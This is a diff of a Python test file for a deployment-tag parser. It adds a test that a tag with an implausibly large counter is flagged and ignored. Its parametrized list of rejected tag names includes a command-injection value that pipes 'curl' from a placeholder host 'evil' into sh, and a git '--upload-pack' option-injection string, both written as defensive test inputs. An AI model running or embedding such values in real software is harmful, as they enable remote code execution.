@@ -138,6 +138,13 @@ def test_gto_after_a_chain_has_begun_is_named(told: Story) -> None:
     assert found(told) == [("foreign", "delay#prod#9")]
 
 
+def test_a_number_that_nobody_counted_to_does_not_lead_the_chain_out_of_the_grammar(told: Story) -> None:
+    told.tag(f"delay#prod#{10**18 - 1}", commit="commit-of-1.0.0")
+    (finding,) = findings(told)
+    assert finding.sentence == f"delay#prod#{10**18 - 1} has a number that nobody counted to; it counts for nothing."
+    assert told.model().stages["prod"].version == "1.1.0"
+
+
 @pytest.mark.parametrize(
     "name", ["delay@v1.0.0;curl${IFS}evil|sh", "--upload-pack=m@v1.0.0", "mltool/run/delay/1", "a#b#c#d"]
 )
